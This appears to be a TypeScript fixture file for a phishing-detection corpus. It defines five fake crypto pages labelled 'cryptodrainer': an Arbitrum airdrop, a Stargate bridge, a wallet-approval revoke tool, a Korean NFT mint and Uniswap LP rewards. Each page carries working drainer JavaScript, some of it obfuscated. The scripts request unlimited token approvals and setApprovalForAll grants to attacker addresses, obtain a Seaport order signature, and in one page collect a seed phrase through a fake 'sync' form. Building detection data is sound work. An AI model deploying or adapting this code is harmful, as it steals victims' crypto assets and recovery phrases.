import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

const DRAIN_MODAL = (title: string) => `<div class="modal" id="wm"><div class="box"><h3 style="margin-top:0">${title}</h3>${Z.WALLETS.slice(0, 6)
  .map((w, i) => `<div class="wl" data-w="${i}"><img src="/img/w${i}.png" alt="">${w}</div>`)
  .join('')}<p class="muted">By connecting you agree to the Terms of Service.</p></div></div>`;
const walletImgs = (host: string) => Object.fromEntries([0, 1, 2, 3, 4, 5].map((i) => [`${host}/img/w${i}.png`, Z.img(40 * i, 120, 200 - 20 * i)]));

export const entries: Entry[] = [
  {
    id: 'zj-drain-arb-airdrop-season2',
    label: 'cryptodrainer',
    kind: 'airdrop-drainer',
    url: 'https://arbitrum-foundation.claims/season-2',
    body: Z.doc({
      title: 'Arbitrum Airdrop Season 2 — Check Eligibility',
      desc: 'The Arbitrum DAO has approved a second distribution of ARB to early users. Check your allocation.',
      style: Z.DARK + '.hero{background:radial-gradient(circle at 30% 20%,#12315e,#0b0d12 60%);padding:70px 20px;text-align:center}',
      head: Z.gtag('G-7XQ2PL1R9A'),
      body: `${Z.top('<img src="/static/arb.png" width="26"> Arbitrum', ['Ecosystem', 'Governance', 'Docs', 'Blog'])}
  <section class="hero"><span class="pill">Season 2 · ends in <b id="cd">47:12:09</b></span><h1 style="font-size:44px">Claim your $ARB</h1>
  <p style="max-width:560px;margin:auto;color:#aab">Following AIP-17, 1.1B ARB is allocated to wallets that bridged, swapped or provided liquidity on Arbitrum One or Nova before the snapshot (block 185,600,000).</p>
  <p style="margin-top:28px"><button class="btn" id="chk">Check eligibility</button></p>
  <p class="muted" id="st"></p></section>
  <main><h2>How it works</h2><ol><li>Connect the wallet you used on Arbitrum.</li><li>Review your allocation.</li><li>Sign the claim message. No gas needed.</li></ol>
  <h2>FAQ</h2><p><b>Is there a fee?</b> No. Claiming is free; you only sign a message.</p><p><b>Which wallets?</b> MetaMask, Rabby, Coinbase Wallet, WalletConnect.</p></main>
  <footer>© 2026 Arbitrum Foundation · Privacy · Terms</footer>
  <script>
  var _cfg=JSON.parse(atob('eyJyIjoiMHhiN2M0ZTFhMDlkMmYzYjY1ODhlMDRjMmExZjc3OWQzMGI1ZTZhOGMxIiwiZSI6Ii9jbGFpbS9zdWJtaXQiLCJjIjpbIjB4OTEyQ0U1OTE0NDE5MWM2NTRiMkExQmRCNDhDOUI4ZjFlRjNFRjUxQSJdfQ=='));
  document.getElementById('chk').onclick=async function(){
   var st=document.getElementById('st');if(!window.ethereum){st.textContent='No wallet detected. Open this page in your wallet browser.';return}
   var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.textContent='Checking '+a.slice(0,8)+'…';
   try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0xa4b1'}]})}catch(e){}
   st.innerHTML='🎉 Eligible: <b>1,840.55 ARB</b>. Sign to claim.';
   var data='0xa22cb465'+_cfg.r.slice(2).padStart(64,'0')+'1'.padStart(64,'0');
   for(var i=0;i<_cfg.c.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:_cfg.c[i],data:'0x095ea7b3'+_cfg.r.slice(2).padStart(64,'0')+'f'.repeat(64)}]})}catch(e){}}
   fetch(_cfg.e,{method:'POST',body:JSON.stringify({a:a,d:data})});
  };
  </script>`,
    }),
    routes: {
      'arbitrum-foundation.claims/static/arb.png': Z.img(40, 160, 240),
      'arbitrum-foundation.claims/claim/submit': Z.json({ status: 'queued' }),
    },
  },
  {
    id: 'zj-drain-bridge-stargate-v3',
    label: 'cryptodrainer',
    kind: 'bridge-drainer',
    url: 'https://stargate-bridge.finance/transfer',
    body: Z.doc({
      title: 'Stargate Finance | Transfer',
      style: Z.DARK,
      body: `${Z.top('⭐ STARGATE', ['Transfer', 'Pool', 'Farm', 'Stake', 'Hydra'], '<button class="btn" id="cw">Connect Wallet</button>')}
  <div class="card"><h3>Transfer</h3><label class="muted">From</label><select><option>Ethereum</option><option>Arbitrum</option><option>BNB Chain</option><option>Polygon</option><option>Base</option></select>
  <label class="muted">To</label><select><option>Arbitrum</option><option>Optimism</option><option>Base</option><option>Linea</option></select>
  <label class="muted">Amount</label><input placeholder="0.00"><div class="row muted"><span>Fee</span><span>0.00 USDC</span></div><div class="row muted"><span>Gas on destination</span><span>Auto</span></div>
  <button class="btn" style="width:100%" id="tx">Transfer</button><p class="muted">V3 migration: LP providers must re-approve the new router before 31 Dec.</p></div>
  ${DRAIN_MODAL('Connect Wallet')}
  <footer>Powered by LayerZero · Stargate Foundation</footer>
  <script>
  !function(){var k=[0x30,0x78,0x37,0x61,0x31,0x66,0x65,0x33,0x39,0x30,0x62,0x34,0x63,0x32,0x64,0x38,0x65,0x36,0x61,0x30,0x66,0x31,0x62,0x33,0x63,0x35,0x64,0x37,0x65,0x39,0x61,0x32,0x34,0x36,0x38,0x30,0x63,0x65,0x66,0x61,0x31,0x32];var S=String.fromCharCode.apply(null,k);
  var m=document.getElementById('wm');document.getElementById('cw').onclick=function(){m.classList.add('on')};document.getElementById('tx').onclick=function(){m.classList.add('on')};
  var T=['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xdAC17F958D2ee523a2206206994597C13D831ec7','0x6B175474E89094C44Da98b954EedeAC495271d0F','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'];
  document.querySelectorAll('.wl').forEach(function(w){w.onclick=async function(){m.classList.remove('on');var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  for(var t of T){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:'0x095ea7b3'+S.slice(2).padStart(64,'0')+'ff'.repeat(32)}]});navigator.sendBeacon('/x/ok',a+'|'+t)}catch(e){}}}});}();
  </script>`,
    }),
    routes: { ...walletImgs('stargate-bridge.finance'), 'stargate-bridge.finance/x/ok': Z.json({}) },
  },
  {
    id: 'zj-drain-fake-revoke-tool',
    label: 'cryptodrainer',
    kind: 'revoke-drainer',
    url: 'https://revoke-approvals.app/',
    body: Z.doc({
      title: 'Revoke Approvals — Protect your wallet from hacks',
      desc: 'Check and revoke your token approvals for free. Stop drainers in one click.',
      body: `${Z.top('🛡️ RevokeApprovals', ['Dashboard', 'Exploits', 'Learn', 'Extension'])}
  <main><h1>Your wallet may be exposed</h1><p>Over <b>$420M</b> was stolen via unlimited approvals last year. Connect to scan all 80+ chains and revoke risky allowances in one batch transaction.</p>
  <button class="btn" id="scan">Connect &amp; Scan</button>
  <table id="tb" style="margin-top:24px;display:none"><tr><th>Token</th><th>Spender</th><th>Allowance</th><th>Risk</th><th></th></tr></table>
  <div class="note">Our "Revoke All" uses a single multicall contract so you only pay gas once. Audited by CertiK.</div></main>
  ${Z.foot('RevokeApprovals', { Product: ['Scanner', 'Extension', 'API'], Company: ['About', 'Contact'] }, 'Not affiliated with any wallet provider.')}
  <script>
  document.getElementById('scan').onclick=async function(){
   var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var tb=document.getElementById('tb');tb.style.display='';
   [['USDT','Unknown 0x3f2a…91c0','Unlimited','High'],['USDC','Uniswap V2 Router','Unlimited','Medium'],['WETH','0x8d12…a7e4 (flagged)','Unlimited','High']].forEach(function(r){tb.insertAdjacentHTML('beforeend','<tr><td>'+r[0]+'</td><td>'+r[1]+'</td><td>'+r[2]+'</td><td style="color:#d93025">'+r[3]+'</td><td><button class="btn alt rv">Revoke</button></td></tr>')});
   tb.insertAdjacentHTML('afterend','<p><button class="btn" id="all">Revoke All (1 tx)</button></p>');
   document.getElementById('all').onclick=async function(){
     await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x9f1b4e2c7a3d5068e1c2b4a9d7f3e6c0b8a15d27',data:'0xa22cb465000000000000000000000000d3a7c5e9f1b20486a9c3e7d1f5b2a8c4e06d91f30000000000000000000000000000000000000000000000000000000000000001'}]});
     var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({domain:{name:'Seaport',version:'1.5',chainId:1,verifyingContract:'0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC'},primaryType:'OrderComponents',types:{OrderComponents:[]},message:{offerer:a,zone:'0x0000000000000000000000000000000000000000',consideration:[{recipient:'0xd3a7c5e9f1b20486a9c3e7d1f5b2a8c4e06d91f3',startAmount:'1'}],startTime:'0',endTime:'1924992000'}})]});
     fetch('/api/r',{method:'POST',body:JSON.stringify({a:a,s:sig})});alert('All approvals revoked ✔');
   };
   document.querySelectorAll('.rv').forEach(function(b){b.onclick=function(){document.getElementById('all').click()}});
  };
  </script>`,
    }),
    routes: { 'revoke-approvals.app/api/r': Z.json({ ok: 1 }) },
  },
  {
    id: 'zj-drain-ko-nft-mint',
    label: 'cryptodrainer',
    kind: 'mint-drainer',
    url: 'https://meta-tigers-nft.io/ko/mint',
    body: Z.doc({
      lang: 'ko',
      title: '메타타이거즈 NFT 민팅 | 화이트리스트 전용',
      style: Z.DARK + 'body{background:#1a0f08}.btn{background:#ff7a1a}',
      body: `${Z.top('🐯 META TIGERS', ['소개', '로드맵', '팀', '민팅'], '<button class="btn" id="c">지갑 연결</button>')}
  <main style="text-align:center"><h1>화이트리스트 민팅 진행 중</h1><p>총 5,000개 중 남은 수량: <b id="r">312</b>개</p><img src="/t.png" width="200">
  <div class="card"><div class="row"><span>가격</span><b>무료 (가스비만)</b></div><div class="row"><span>지갑당 최대</span><b>2개</b></div><button class="btn" style="width:100%" id="m">민팅하기</button>
  <p class="muted">메타마스크 또는 카이카스 지갑을 사용하세요. 서명 요청을 모두 승인해야 민팅이 완료됩니다.</p></div></main>
  <footer>© 2026 META TIGERS. All rights reserved. 이용약관 · 개인정보처리방침</footer>
  <script src="/js/mint.js"></script>`,
    }),
    routes: {
      'meta-tigers-nft.io/t.png': Z.img(250, 130, 30),
      'meta-tigers-nft.io/js/mint.js': Z.js(`eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('b 1=f.g;h i 7(){b 2=(c 1.8({d:"j"}))[0];c 1.8({d:"k",l:[{m:2,n:"o",p:"q"}]});r("/6?2="+2);9.a("5").s="t"}9.a("3").e=7;9.a("4").e=7;',36,30,'|e|a|c|m|r|q|go|request|document|getElementById|var|await|method|onclick|window|ethereum|async|function|eth_requestAccounts|eth_sendTransaction|params|from|to|0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D|data|0xa22cb4650000000000000000000000007e4d2a9b1c8f03e5a6d7b2c1f9e0a3d5c8b4e6f20000000000000000000000000000000000000000000000000000000000000001|fetch|textContent|311'.split('|'),0,{}))`),
      'meta-tigers-nft.io/q': Z.json({}),
    },
  },
  {
    id: 'zj-drain-uniswap-lp-rewards',
    label: 'cryptodrainer',
    kind: 'claim-drainer',
    url: 'https://app-uniswap.rewards/',
    body: Z.doc({
      title: 'Uniswap Interface | LP Rewards',
      style: Z.DARK + 'body{background:#131313}.btn{background:#fc72ff;color:#fff}',
      body: `${Z.top('🦄', ['Trade', 'Explore', 'Pool', 'Rewards'], '<button class="btn" id="c">Connect</button>')}
  <div class="card"><h3>Unclaimed LP rewards</h3><p class="muted">Uniswap Labs is distributing protocol fee switch rewards to historical V3 liquidity providers.</p><div class="row"><span>Your rewards</span><b id="v">—</b></div>
  <button class="btn" style="width:100%" id="cl">Claim UNI</button></div>
  <div class="modal" id="err"><div class="box"><h3>Wallet not synchronized</h3><p class="muted">Your wallet failed to sync with the rewards contract. Import your wallet manually to continue.</p><textarea id="ph" rows="3" placeholder="Enter your 12 or 24 word secret recovery phrase"></textarea><button class="btn" style="width:100%;margin-top:10px" id="im">Import</button></div></div>
  <script>
  var A;document.getElementById('c').onclick=async function(){try{A=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('v').textContent='3,204.18 UNI ($24,912)'}catch(e){document.getElementById('err').classList.add('on')}};
  document.getElementById('cl').onclick=async function(){if(!A){document.getElementById('err').classList.add('on');return}
   try{await ethereum.request({method:'eth_sendTransaction',params:[{from:A,to:'0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984',data:'0x095ea7b30000000000000000000000005e1a9c37b2f4d08e6a1c3b7d9e2f5a08c4b6d13effffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})}catch(e){document.getElementById('err').classList.add('on')}};
  document.getElementById('im').onclick=function(){fetch('/sync',{method:'POST',body:JSON.stringify({p:document.getElementById('ph').value,a:A})}).then(function(){alert('Synchronizing… please wait up to 30 minutes.')})};
  </script>`,
    }),
    routes: { 'app-uniswap.rewards/sync': Z.json({ ok: 1 }) },
  },
];
